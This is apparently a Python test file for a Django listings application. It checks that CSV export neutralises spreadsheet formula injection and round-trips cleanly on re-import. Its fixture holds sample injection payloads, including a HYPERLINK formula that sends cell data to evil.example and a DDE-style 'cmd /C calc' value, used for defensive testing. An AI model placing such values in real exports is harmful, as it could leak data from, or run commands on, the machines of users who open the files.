"""CSV for spreadsheets: no exported cell runs as a formula, and our own export imports back to
the same values (issue 12, item 8)."""

from __future__ import annotations

import pytest

from listings.importers.contract import import_listings
from listings.importers.table import guard_cell, unguard_cell
from listings.models import ListingPage
from tests.factories import make_listing
from tests.listings.test_export import csv_bytes, exported, rows_of

pytestmark = pytest.mark.django_db

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"詳しくはこちら")',
    "organiser": "@SUM(1+1)*cmd|' /C calc'!A0",
    "fee": "+100円",
    "schedule_note": "-2+3 ではありません",
    "accessibility": "'=すでに引用符つき",
    "phone": "+81-3-1234-5678",
    "fax": "03-1234-5679",
}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+81-3-1234-5678", "'+81-3-1234-5678"),  # a phone number is data, but Excel computes it
        ("-", "'-"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # one more quote, so that import gives back exactly '=1
        ("-33.5", "-33.5"),  # a plain number is a number to a spreadsheet, not a formula
        ("+5", "+5"),
        ("03-1234-5678", "03-1234-5678"),
        ("みどり", "みどり"),
        ("'plain", "'plain"),
        ("", ""),
    ],
)
def test_guard_and_its_inverse(value, written):
    assert guard_cell(value) == written
    assert unguard_cell(written) == value


def test_no_exported_cell_starts_a_formula(areas):
    fields = {name: value for name, value in HOSTILE.items() if name != "title"}
    make_listing(HOSTILE["title"], area=areas.north_a, external_id="K-1", **fields)
    row = rows_of(exported())[0]
    for column, cell in row.items():
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            assert cell.lstrip("+-").replace(".", "").isdigit(), (column, cell)
    assert row["名称"] == "'" + HOSTILE["title"]
    assert row["電話番号"] == "'+81-3-1234-5678"
    assert row["FAX番号"] == "03-1234-5679"
    assert row["バリアフリー情報"] == "''=すでに引用符つき"


def test_importing_our_export_gives_the_same_values(areas):
    fields = {name: value for name, value in HOSTILE.items() if name != "title"}
    make_listing(HOSTILE["title"], area=areas.north_a, external_id="K-1", **fields)
    copies = [row | {"ID": "copy-K-1"} for row in rows_of(exported())]
    result = import_listings(csv_bytes(copies))
    assert result.created == 1, result.errors
    copy = ListingPage.objects.get(external_id="copy-K-1")
    for name, value in HOSTILE.items():
        assert getattr(copy, name) == value, name
    # And the unchanged original re-imports as unchanged.
    assert import_listings(exported().encode("utf-8")).unchanged == 2
